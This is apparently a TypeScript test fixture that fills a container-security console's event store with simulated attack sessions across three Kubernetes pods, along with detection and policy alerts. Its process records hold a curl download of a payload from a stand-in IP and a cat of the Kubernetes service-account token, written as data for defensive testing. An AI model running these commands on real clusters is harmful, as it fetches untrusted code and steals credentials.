// A store for the console's tests: recorded golden documents (test/golden/ecs) written through
// the store's own append path, reshaped into real-looking sessions in three pods: an interactive
// shell (entry leader) that runs curl (network, end) and sh → cat of a secret, with a rule
// detection or a policy alert on one of them.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { EcsDoc } from '../../src/output/index.js';
import { EventStore } from '../../src/store/index.js';

const GOLDEN = join(import.meta.dirname, '..', 'golden', 'ecs');
// biome-ignore lint/suspicious/noExplicitAny: golden documents reshaped freely by the test
type Doc = Record<string, any>;
const cache = new Map<string, string>();
const golden = (name: string): Doc => {
  const t = cache.get(name) ?? readFileSync(join(GOLDEN, `${name}.json`), 'utf8');
  cache.set(name, t);
  return JSON.parse(t) as Doc;
};

export interface Pod {
  namespace: string;
  pod: string;
  container: string;
  image: string;
  id: string;
  privileged: boolean;
  caps: string[];
}
export const PODS: Pod[] = [
  {
    namespace: 'default',
    pod: 'web-7d9f',
    container: 'nginx',
    image: 'docker.io/library/nginx',
    id: 'c0ffee01',
    privileged: false,
    caps: ['CAP_CHOWN', 'CAP_KILL'],
  },
  {
    namespace: 'payments',
    pod: 'api-5c4b',
    container: 'api',
    image: 'ghcr.io/acme/api',
    id: 'c0ffee02',
    privileged: false,
    caps: ['CAP_CHOWN', 'CAP_NET_ADMIN'],
  },
  {
    namespace: 'payments',
    pod: 'worker-0',
    container: 'worker',
    image: 'ghcr.io/acme/worker',
    id: 'c0ffee03',
    privileged: true,
    caps: ['CAP_SYS_ADMIN'],
  },
];

export interface FilledSession {
  leader: string;
  pod: Pod;
  /** entity → parent entity (the leader's parent is outside the session). */
  parents: Record<string, string>;
  names: Record<string, string>;
  alertOn: string;
}

export interface Filled {
  /** Alerts written, by rule name shown in the console. */
  rules: Map<string, number>;
  alerts: number;
  events: number;
  sessions: FilledSession[];
}

export const RULES = ['Interactive Shell in a Container', 'Suspicious Binary Written to /usr/bin'];
const SEVERITIES = ['medium', 'high'];
/** Each session's terminal output, in order (the Session view's player shows it). */
export const OUTPUT = [
  '# id\r\nuid=0(root) gid=0(root) groups=0(root)\r\n',
  '# cat /etc/hostname\r\nweb-7d9f\r\n# ',
];

interface Proc {
  entity: string;
  pid: number;
  name: string;
  executable: string;
  args: string[];
}

function setProc(d: Doc, p: Proc, parent: Proc, leader: Proc): void {
  const leaderRef = (x: Doc | undefined, q: Proc) => ({
    ...(x ?? {}),
    entity_id: q.entity,
    pid: q.pid,
    name: q.name,
    executable: q.executable,
    args: q.args,
  });
  const pr = d.process ?? {};
  d.process = {
    ...pr,
    entity_id: p.entity,
    pid: p.pid,
    name: p.name,
    executable: p.executable,
    args: p.args,
    command_line: p.args.join(' '),
    parent: leaderRef(pr.parent, parent),
    session_leader: leaderRef(pr.session_leader, leader),
    entry_leader: { ...leaderRef(pr.entry_leader, leader), entry_meta: { type: 'container' } },
    group_leader: leaderRef(pr.group_leader, p),
  };
}

export async function fillStore(dir: string, t0 = Date.parse('2026-11-28T00:00:00Z')): Promise<Filled> {
  const store = await EventStore.open({ dir, retentionIntervalMs: 0 });
  const rules = new Map<string, number>();
  const sessions: FilledSession[] = [];
  let alerts = 0;
  let events = 0;
  for (let i = 0; i < 24; i++) {
    const pod = PODS[i % PODS.length] as Pod;
    const base = t0 + i * 60_000;
    const at = (s: number) => new Date(base + s * 1000).toISOString();
    const pre = `${pod.pod}-${i}`;
    const runtime: Proc = {
      entity: `${pre}-runc`,
      pid: 900 + i,
      name: 'runc',
      executable: '/usr/bin/runc',
      args: ['runc', 'exec'],
    };
    const bash: Proc = {
      entity: `${pre}-bash`,
      pid: 1000 + i,
      name: 'bash',
      executable: '/bin/bash',
      args: ['bash'],
    };
    const curl: Proc = {
      entity: `${pre}-curl`,
      pid: 2000 + i,
      name: 'curl',
      executable: '/usr/bin/curl',
      args: ['curl', '-o', '/tmp/payload', 'http://203.0.113.9/payload'],
    };
    const sh: Proc = {
      entity: `${pre}-sh`,
      pid: 3000 + i,
      name: 'sh',
      executable: '/bin/sh',
      args: ['sh', '-c', 'cat /var/run/secrets/kubernetes.io/serviceaccount/token'],
    };
    const cat: Proc = {
      entity: `${pre}-cat`,
      pid: 4000 + i,
      name: 'cat',
      executable: '/bin/cat',
      args: ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'],
    };
    const write = (
      name: string,
      p: Proc,
      parent: Proc,
      s: number,
      stream: string,
      edit?: (d: Doc) => void,
    ) => {
      const d = golden(name);
      setProc(d, p, parent, bash);
      d['@timestamp'] = at(s);
      d.orchestrator = {
        ...(d.orchestrator ?? {}),
        cluster: { name: 'lab' },
        namespace: pod.namespace,
        resource: { type: 'pod', name: pod.pod },
      };
      d.container = {
        ...(d.container ?? {}),
        id: pod.id,
        name: pod.container,
        image: { name: pod.image, tag: 'latest' },
        security_context: { privileged: pod.privileged },
      };
      if (d.process.thread?.capabilities)
        d.process.thread.capabilities = { effective: pod.caps, permitted: pod.caps };
      // Each document its own event (the golden ones share their ids; readers dedupe by id).
      d.event = { ...(d.event ?? {}), id: `${pre}-${events}` };
      edit?.(d);
      store.write(d as EcsDoc, stream);
      events++;
    };
    const P = 'logs-cloud_defend.process-default';
    write('process-exec-interactive', bash, runtime, 0, P);
    // The shell's terminal output (tty capture), two chunks in order.
    for (const [k, text] of OUTPUT.entries())
      write('text-output', bash, runtime, 0.2 + k * 0.1, P, (d) => {
        d.process.io = { ...d.process.io, text };
      });
    write('process-fork-child', curl, bash, 1, P);
    write(pod.privileged ? 'process-exec-drift' : 'process-exec-child', curl, bash, 1.1, P);
    write('network-connect', curl, bash, 1.5, 'logs-cloud_defend.network-default');
    write('process-end', curl, bash, 2, P);
    write('process-fork-child', sh, bash, 3, P);
    write('process-exec-child', sh, bash, 3.1, P);
    write('process-exec-child', cat, sh, 4, P);
    write('file-read-secret', cat, sh, 4.5, 'logs-cloud_defend.file-default');
    let alertOn: string;
    if (i % 3 === 2) {
      alertOn = cat.entity;
      let key = '';
      write('alert', cat, sh, 4.6, 'logs-cloud_defend.alerts-default', (d) => {
        key = `policy: ${(d.cloud_defend?.matched_selectors ?? []).join(', ')}`;
      });
      rules.set(key, (rules.get(key) ?? 0) + 1);
    } else {
      const k = i % 2;
      alertOn = k === 0 ? bash.entity : curl.entity;
      write(
        'detection',
        k === 0 ? bash : curl,
        k === 0 ? runtime : bash,
        k === 0 ? 0.5 : 1.2,
        'logs-cloud_defend.alerts-default',
        (d) => {
          d.rule = { ...(d.rule ?? {}), name: RULES[k], severity: SEVERITIES[k] };
        },
      );
      rules.set(RULES[k] as string, (rules.get(RULES[k] as string) ?? 0) + 1);
    }
    alerts++;
    sessions.push({
      leader: bash.entity,
      pod,
      parents: { [curl.entity]: bash.entity, [sh.entity]: bash.entity, [cat.entity]: sh.entity },
      names: { [bash.entity]: 'bash', [curl.entity]: 'curl', [sh.entity]: 'sh', [cat.entity]: 'cat' },
      alertOn,
    });
  }
  // Agent-metrics documents, cumulative counters a minute apart (the Health view's rates).
  for (let k = 0; k < 3; k++) {
    const m = golden('metrics');
    m['@timestamp'] = new Date(t0 + k * 60_000).toISOString();
    m.cloud_defend.metrics.events_seen.exec = 120 * (k + 1);
    m.cloud_defend.metrics.kernel_drops.ringbuf_reserve = k;
    store.write(m as EcsDoc, 'metrics-cloud_defend.metrics-default');
    events++;
  }
  // A host process outside any container.
  const host = golden('process-exec-child');
  delete host.container;
  host['@timestamp'] = new Date(t0).toISOString();
  store.write(host as EcsDoc, 'logs-cloud_defend.process-default');
  events++;
  await store.close();
  return { rules, alerts, events, sessions };
}
